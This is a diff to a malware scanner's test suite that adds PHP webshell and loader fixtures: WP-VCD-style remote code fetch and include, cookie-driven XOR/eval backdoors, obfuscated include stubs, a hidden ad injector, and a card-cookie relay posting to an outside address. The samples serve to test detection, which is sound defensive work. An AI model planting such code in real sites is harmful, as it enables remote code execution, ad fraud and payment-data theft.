@@ -8,6 +8,15 @@ const scanner = createScanner({});
 const scan = (src: string, path: string) => scanner.scanBuffer(Buffer.from(src, 'utf8'), path);
 const why = (r: { score: number; findings: readonly { rule: string; score: number }[] }) => `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`;
 
+const hex = (t: string) => Buffer.from(t).toString('hex');
+const b64 = (t: string) => Buffer.from(t).toString('base64');
+// A theme's functions.php of our own, long enough (over 64 KB) that a block at its top is far from most of the file.
+const THEME = Array.from({ length: 900 }, (_, i) => `function shoptheme_part_${i}( $args = array() ) {\n\t$defaults = array( 'class' => 'part-${i}', 'echo' => true );\n\t$args = wp_parse_args( $args, $defaults );\n\treturn apply_filters( 'shoptheme_part_${i}', $args );\n}\n`).join('');
+// Junk comments as one loader wraps each token in them.
+const junk = (i: number) => `/*-${'\u2592\u2660\u2318'.repeat(1 + (i % 3))}${i}-*///\n`;
+// range('~', ' ') as PHP makes it, to pick a path's characters from.
+const TILDE = Array.from({ length: 95 }, (_, i) => String.fromCharCode(126 - i)).join('');
+
 const PAGES: [string, string, string][] = [
   [
     'a shell naming ini_get and $_GET by letters picked out of range() alphabets, calling what the query names (H55)',
@@ -47,6 +56,155 @@ if (isset($_POST['go'])) {
     }
   }
 }
+`,
+  ],
+  [
+    'a theme file given a block at its top: a password-gated handler that rewrites its own address, and code fetched, written to tempnam() after "<?php" and included (H54: WP-VCD)',
+    '/srv/www/wp-content/themes/shop/functions.php',
+    `<?php
+if (isset($_REQUEST['do']) && isset($_REQUEST['pw']) && $_REQUEST['pw'] == '5f0d6c1a2b3c4d5e6f708192a3b4c5d6') {
+  if ($_REQUEST['do'] == 'move' && !empty($_REQUEST['to']) && ($self = @file_get_contents(__FILE__))) {
+    if (preg_match('/getpart\\("http:\\/\\/(.*)\\/p\\.php/', $self, $old)) @file_put_contents(__FILE__, str_replace($old[1], $_REQUEST['to'], $self));
+  }
+  die('');
+}
+if (!function_exists('shop_setup_parts')) {
+  function shop_setup_parts($body) {
+    $t = tempnam(sys_get_temp_dir(), 'shop');
+    $h = fopen($t, 'w+');
+    fwrite($h, "<?php\n" . $body);
+    fclose($h);
+    include $t;
+    unlink($t);
+    return get_defined_vars();
+  }
+  if ($got = @file_get_contents("http://parts.example.net/p.php?h=" . $_SERVER['HTTP_HOST'])) extract(shop_setup_parts($got));
+}
+?><?php
+${THEME}`,
+  ],
+  [
+    'a backdoor walking the cookies and the posted fields whole: each value unpacked from hex, XORed with a repeated key, split on "#", the second part called on the third and evaled; names built by chr() sums between comments (H54)',
+    '/srv/www/.well-known/acme.php',
+    `<?php $r =/* a */"\x73"./* b */chr(116)./**/'r'.chr(700 - 605)."\x72".chr(101).chr(450 - 338)."\\145"."\\141".chr(116);
+$x = chr(101).'x'.chr(112)."\x6c".'o'.chr(200 - 100).'e';
+$p = chr(112).chr(97)."\x63".chr(107);
+function tbl() { $a = Array("k1" => "v1"); $b = Array("k2" => "v2"); return Array($a, /* c */$_COOKIE, $a, $_POST, $b); }
+function go($parts) { if (count($parts) == 3) { $f = $parts[1]; $c = $f($parts[2]); eval/* d */($c); die(); } }
+function mix($v, $k) { return $v ^ $k; }
+foreach (tbl() as $set) {
+  foreach ($set as $k => $v) {
+    $v = @$p('H*', $v);
+    $k .= "a1b2-c3d4-e5f6";
+    $k = $r($k, (strlen($v) / strlen($k)) + 1);
+    go($x('#', mix($v, $k)));
+  }
+}
+`,
+  ],
+  [
+    'a class injected before a core file behind hundreds of blanks: the cookies and the posts taken whole, base64-decoded and XORed, what they hold written to a temporary file and included (H54)',
+    '/srv/www/wp-includes/rest-api/endpoints/class-menus.php',
+    `<?php${' '.repeat(380)}if (!class_exists('Rq_K')) { class Rq_K { public static $k = "7a1b9c2d-0000-4e5f-8a9b-0c1d2e3f4a5b"; public static $o = NULL; public function __construct() { $c = $_COOKIE; $p = $_POST; $n = @$c[substr(Rq_K::$k, 0, 4)]; if (!empty($n)) { $s = ''; foreach (explode(',', $n) as $i) { $s .= @$c[$i]; $s .= @$p[$i]; } $s = base64_decode($s) ^ str_repeat(Rq_K::$k, (strlen($s) / strlen(Rq_K::$k)) + 1); Rq_K::$o = @unserialize($s); } } public function __destruct() { if (is_array(Rq_K::$o)) { $t = sys_get_temp_dir() . '/' . crc32(Rq_K::$o['salt']); @Rq_K::$o['write']($t, Rq_K::$o['content']); include $t; @Rq_K::$o['delete']($t); exit(); } } } $rq = new Rq_K(); $rq = NULL; } ?><?php
+/**
+ * REST API: menus controller.
+ */
+class Menus_Controller { public function get_items() { return array(); } }
+`,
+  ],
+  [
+    'a backdoor taken apart into one-line functions: a cookie by name, rawurldecoded, XORed with a SHA-256 key stretched by str_pad, evaled (H54)',
+    '/srv/www/wp-admin/wp-blocks.php',
+    `<?php
+function kq($n) { $v = $_COOKIE[$n]; return $v; }
+function dq($s) { $d = rawurldecode($s); return $d; }
+function xq($a, $b) { $r = $a ^ $b; return $r; }
+function hq($s) { return hash('sha256', $s, true); }
+function pq($s, $n) { return str_pad($s, $n, $s); }
+function run_it($c) { eval($c); }
+function tail4($s) { return substr($s, -4); }
+$name = 'QwErTyUiOpAs';
+$data = dq(kq(tail4($name)));
+run_it(xq(pq(hq($name), strlen($data)), $data));
+`,
+  ],
+  [
+    'a planted index.php whose only code includes a hidden file of its own folder by an absolute path (H54)',
+    '/srv/www/.well-known/index.php',
+    `<?php
+/*a1b2c*/
+
+@include ("/home/site/public_html/wp-content/cache/.a1b2c3d4.otc");
+
+/*a1b2c*/
+`,
+  ],
+  [
+    'a one-line stub including a file whose name is base64 decoded where it is included (H54)',
+    '/srv/www/wp-admin/css/colors/x/index.php',
+    `<?php include_once base64_decode("${b64('QwErTyUiOpAsDf.flv')}"); ?>`,
+  ],
+  [
+    'a loader picking its path character by character out of range("~", " "), each token between comments of junk (H54)',
+    '/srv/www/wp-admin/css/colors/y/index.php',
+    `<?php ${junk(0)}$rg ${junk(1)}= "ra" ${junk(2)}. "nge"; $t ${junk(3)}= $rg(${junk(4)}"~", " "); ${junk(5)}@require_once ${[...'QwErTyUiOp.m3u'].map((c, i) => `$t${junk(6 + i)}[${TILDE.indexOf(c) - (i % 5)}+${i % 5}]`).join('.')}; ?>`,
+  ],
+  [
+    'an ad injector kept without a PHP tag: a loader script for visitors only, the addresses of editors kept in wp-includes so they never see it (H54: wp-tmp.php)',
+    '/srv/www/wp-includes/wp-tmp.php',
+    `error_reporting(0);
+if (!function_exists('slide_opts')) {
+function slide_opts($content) {
+  if (is_single()) {
+    $add = '<script>(function(o){var d=document,s=d.createElement(\\'script\\'),l=d.scripts[d.scripts.length-1];s.settings=o||{};s.src="\\/\\/ads.example-cdn.net\\/c\\/Xy12\\/z";l.parentNode.insertBefore(s,l);})({})</script>';
+    $content = $content . $add;
+  }
+  return $content;
+}
+if (current_user_can('edit_others_pages')) {
+  $seen = @file_get_contents(ABSPATH . 'wp-includes/wp-feeds.php');
+  if (stripos($seen, $_SERVER['REMOTE_ADDR']) === false) @file_put_contents(ABSPATH . 'wp-includes/wp-feeds.php', $seen . $_SERVER['REMOTE_ADDR'] . "\n");
+}
+$seen = @file_get_contents(ABSPATH . 'wp-includes/wp-feeds.php');
+if (stripos($seen, $_SERVER['REMOTE_ADDR']) === false && !isset($_COOKIE['wp_adm_seen'])) add_filter('the_content', 'slide_opts');
+}
+`,
+  ],
+  [
+    'a password-keyed loader: a blob decoded by a name built with arithmetic, each byte shifted by a key from the post or a cookie, inflated and made a function by create_function (H56)',
+    '/srv/www/media/catalog/product/cache/a/7f3e.php',
+    `<?php $d = 'base' . (16 * 4) . '_de' . 'code'; $d = $d('${b64('stand-in bytes, not a payload: what matters is what runs them').repeat(4)}');
+$k = isset($_POST['kk']) ? $_POST['kk'] : (isset($_COOKIE['kk']) ? $_COOKIE['kk'] : NULL);
+if ($k !== NULL) { $k = md5($k) . substr(md5(strrev($k)), 0, strlen($k)); for ($i = 0; $i < strlen($d); $i++) { $d[$i] = chr((ord($d[$i]) - ord($k[$i])) % 256); $k .= $d[$i]; }
+  if ($d = @gzinflate($d)) { if (isset($_POST['kk'])) @setcookie('kk', $_POST['kk']); $f = create_function('', $d); unset($d, $k); $f(); } }
+?><form method="post"><input name="kk"><input type="submit"></form>`,
+  ],
+  [
+    'a shop\'s core file with a block appended: names decoded by a hex function of its own, then eval(base64_decode(strrev(..))) (H56)',
+    '/srv/www/lib/Varien/Object.php',
+    `<?php
+class Varien_Object_Base { protected $_data = array(); public function getData($k = '') { return $k === '' ? $this->_data : (isset($this->_data[$k]) ? $this->_data[$k] : null); } }
+try {
+  function swatch($c) {
+    $s = "";
+    for ($i = 0; $i < strlen($c) - 1; $i += 2) {
+      $s .= chr(hexdec($c[$i] . $c[$i + 1]));
+    }
+    return $s;
+  }
+  $tone = swatch("${hex('strrev')}");
+  $shade = swatch($tone("${[...hex('base64_decode')].reverse().join('')}"));
+  $blob = "${[...b64('echo "stand-in";')].reverse().join('')}";
+  eval(
+    $shade($tone($blob)));
+} catch (Exception $e) { echo ""; }
+`,
+  ],
+  [
+    'a relay in a file named as an image: a cookie read by a hex name, posted on to an address itself in hex (H56: a skimmer\'s exfiltration)',
+    '/srv/www/media/wysiwyg/banner_2016.jpg.php',
+    `<?php
+try { if (strpos(hex2bin($_COOKIE[hex2bin('${hex('_abc')}')]), hex2bin('${hex('card')}')) !== false) { @file_get_contents(hex2bin('${hex('https://198.51.100.7/')}'), false, stream_context_create(array('http' => array('method' => 'POST', 'header' => "Content-type: application/x-www-form-urlencoded\r\n", 'content' => http_build_query(array('t' => base64_encode($_COOKIE[hex2bin('${hex('_abc')}')]))))))); setcookie(hex2bin('${hex('_abc')}'), '', time() - 1, '/'); } } catch (Exception $e) {}
 `,
   ],
 ];
@@ -89,6 +247,48 @@ foreach ($servers as $h) {
 }
 `,
   ],
+  [
+    'a framework\'s bootstrap: the request merged from the query, the cookies and the posts, its CSRF token masked by XOR, its routes required',
+    '/srv/app/bootstrap.php',
+    `<?php
+$input = array_merge($_GET, $_COOKIE, $_POST);
+function mask_token($token, $key) { return base64_encode($token ^ $key); }
+$key = random_bytes(32);
+$masked = mask_token(hash('sha256', session_id(), true), $key);
+$routes = __DIR__ . '/routes.php';
+require $routes;
+dispatch($input, $masked);
+`,
+  ],
+  [
+    'a settings helper of one-line functions: a cookie by name, XOR of two strings for a checksum, no code run',
+    '/srv/app/helpers.php',
+    `<?php
+function cookie_of($name) { $v = $_COOKIE[$name]; return $v; }
+function xor_of($a, $b) { $r = $a ^ $b; return $r; }
+function show($s) { echo htmlspecialchars($s); }
+show(bin2hex(xor_of(cookie_of('theme'), 'ab')));
+`,
+  ],
+  [
+    'a config include of a dot-file of PHP by an absolute path, and a comment after a run of blanks',
+    '/srv/app/index.php',
+    `<?php${' '.repeat(200)}// generated header
+require_once '/etc/shopapp/.config.php';
+include '/srv/app/templates/header.php';
+echo render_page($_GET['p'] ?? 'home');
+`,
+  ],
+  [
+    'a page cache that inflates what it stored and prints it, with a callback made by create_function of a fixed body',
+    '/srv/app/cache.php',
+    `<?php
+$cached = @file_get_contents(__DIR__ . '/cache/' . md5($_SERVER['REQUEST_URI']));
+if ($cached !== false) { echo gzinflate($cached); exit; }
+$cmp = create_function('$a, $b', 'return strcmp($a["name"], $b["name"]);');
+usort($items, $cmp);
+`,
+  ],
 ];
 
 describe('scan: session 45 samples, the misses written again', () => {
@@ -98,12 +298,12 @@ describe('scan: session 45 samples, the misses written again', () => {
       assert.equal(r.verdict, 'malicious', why(r));
     });
   }
-  it('ran every page', () => assert.equal(PAGES.length, 2));
+  it('ran every page', () => assert.equal(PAGES.length, 13));
   for (const [name, path, src] of LOOKALIKES) {
     it(`not malicious: ${name}`, () => {
       const r = scan(src, path);
       assert.notEqual(r.verdict, 'malicious', why(r));
     });
   }
-  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 3));
+  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 7));
 });
